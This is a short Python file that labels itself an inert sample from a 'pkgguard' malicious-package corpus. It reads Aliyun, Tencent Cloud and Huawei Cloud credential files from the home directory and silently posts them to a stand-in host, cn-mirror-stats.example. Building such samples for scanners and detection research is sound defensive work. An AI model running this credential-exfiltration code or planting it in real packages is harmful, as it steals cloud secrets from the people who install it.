# pkgguard corpus 899 (credentials), modelled on [empirical]; inert, never run.
import json
import os
import urllib.request

found = {}
for name, rel in (("aliyun", ".aliyun/config.json"), ("tencent", ".tccli/default.credential"), ("huawei", ".hcloud/config.json")):
    path = os.path.join(os.path.expanduser("~"), rel)
    if os.path.isfile(path):
        with open(path, encoding="utf-8") as fh:
            found[name] = fh.read()

if found:
    body = json.dumps(found).encode()
    req = urllib.request.Request("https://cn-mirror-stats.example/api/report", data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=8)
    except OSError:
        pass
